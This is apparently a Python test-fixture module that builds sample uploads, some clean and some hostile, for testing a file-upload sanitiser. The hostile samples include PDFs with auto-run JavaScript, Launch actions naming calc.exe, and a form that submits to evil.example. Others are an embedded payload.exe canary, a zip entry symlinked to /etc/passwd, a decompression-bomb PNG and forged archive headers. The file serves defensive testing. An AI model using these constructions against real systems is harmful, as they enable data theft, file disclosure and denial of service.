"""Files made in code, good and hostile, for the tests of uploads."""

import io
import struct
import zipfile
import zlib

import openpyxl
import pikepdf
from PIL import Image

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
PACKAGE_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def archive(parts, *, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            made.writestr(name, content)
    return out.getvalue()


def content_types(main=WORD_MAIN, more=""):
    return (
        f'<Types xmlns="{PACKAGE_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
    )


def relationships(*targets):
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(targets)
    )
    return f'<Relationships xmlns="{RELATIONSHIPS}">{rows}</Relationships>'


EXTERNAL = ' TargetMode="External"'


def word(**more):
    """A Word file; keyword arguments add or replace parts, __ standing for / and _dot_ for a full stop."""
    parts = {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", "")),
        "word/document.xml": '<w:document xmlns:w="urn:w"><w:body><w:p>Views of the child</w:p></w:body></w:document>',
        "word/_rels/document.xml.rels": relationships(
            ("image", "media/image1.png", ""), ("hyperlink", "https://school.example/send", EXTERNAL)
        ),
    }
    return archive(parts | more)


def word_with(name, content="x"):
    return word(**{name: content})


def word_linked_to(kind, target, mode=EXTERNAL):
    return word_with("word/_rels/settings.xml.rels", relationships((kind, target, mode)))


def excel():
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["Name", "Hours"])
    book.active.append(["Amy", 3])
    book.save(out)
    return out.getvalue()


def excel_with(name, content="x"):
    with zipfile.ZipFile(io.BytesIO(excel())) as made:
        parts = {entry: made.read(entry) for entry in made.namelist()}
    return archive(parts | {name: content})


def open_document(body="<text:p>Advice</text:p>", mimetype=ODT_TYPE, manifest="", **more):
    names = 'xmlns:office="urn:o" xmlns:text="urn:t" xmlns:draw="urn:d" xmlns:script="urn:s"'
    content = (
        f'<office:document-content {names} xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:document-content>'
    )
    parts = {
        "mimetype": mimetype,
        "META-INF/manifest.xml": f'<m:manifest xmlns:m="urn:m">{manifest}</m:manifest>',
        "content.xml": content,
    }
    return archive(parts | more)


def pdf(change=None, **options):
    """A PDF of one page; `change` may add to it."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(200, 200))
        made.pages[0].Contents = made.make_stream(b"BT (Plan) Tj ET")
        if change:
            change(made)
        made.save(out, **options)
    return out.getvalue()


def action(kind, **more):
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **more)


def script(made):
    return action("JavaScript", JS=pikepdf.String("app.alert(1)"))


def opens_script(made):
    made.Root.OpenAction = made.make_indirect(script(made))


def opens_at_a_page(made):
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def additional_actions(made):
    made.Root.AA = pikepdf.Dictionary(WC=script(made))
    made.pages[0].AA = pikepdf.Dictionary(O=script(made))


def named_scripts(made):
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), made.make_indirect(script(made))]))
    )


def link(made, act):
    made.pages[0].Annots = pikepdf.Array(
        [
            made.make_indirect(
                pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act)
            )
        ]
    )


def launches(made):
    link(made, action("Launch", F=pikepdf.String("calc.exe")))


def launches_after_a_page_turn(made):
    link(made, action("GoTo", D=pikepdf.String("x"), Next=pikepdf.Array([action("Launch", F=pikepdf.String("c"))])))


def links_to_a_page(made):
    link(made, action("URI", URI=pikepdf.String("https://school.example/")))


def submits(made):
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("a"), V=pikepdf.String("kept"))
    field.A = action("SubmitForm", F=pikepdf.String("https://evil.example/"))
    made.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([made.make_indirect(field)]), XFA=made.make_stream(b"<xdp/>")
    )


def attaches(made):
    made.attachments["payload.exe"] = b"MZ canary"


def rich_media(made):
    made.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.RichMedia,
                Rect=[0, 0, 9, 9],
                RichMediaContent=pikepdf.Dictionary(),
            )
        ]
    )


def picture(form="JPEG", size=(60, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, 120 if mode in {"L", "P"} else None).save(out, form, **options)
    return out.getvalue()


def photo_with_a_place():
    exif = Image.Exif()
    exif[0x010F] = "CanaryCamera"
    exif[0x0112] = 6  # held upright: the picture is to be turned
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 0.0)
    return picture(exif=exif, comment=b"CanaryRemark", icc_profile=b"CanaryProfile" * 20)


def vast_png():
    """A PNG that says it is 30,000 by 30,000 dots, in a few bytes."""

    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 90_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def many_parts(count):
    return word(**{f"word/part{number}.xml": "" for number in range(count)})


def linked_part():
    """A Word file in which one part is a symbolic link."""
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = 0o120777 << 16
    with zipfile.ZipFile(io.BytesIO(word())) as made:
        return archive([*((name, made.read(name)) for name in made.namelist()), (entry, "/etc/passwd")])


def flagged_as_locked(content):
    """The same archive with the encryption mark on its first part."""
    place = content.index(b"PK\x01\x02") + 8
    return content[:place] + b"\x01" + content[place + 1 :]


def understated(content):
    """The same archive, whose directory says that its last part is one byte long."""
    place = content.rindex(b"PK\x01\x02") + 24
    return content[:place] + struct.pack("<I", 1) + content[place + 4 :]
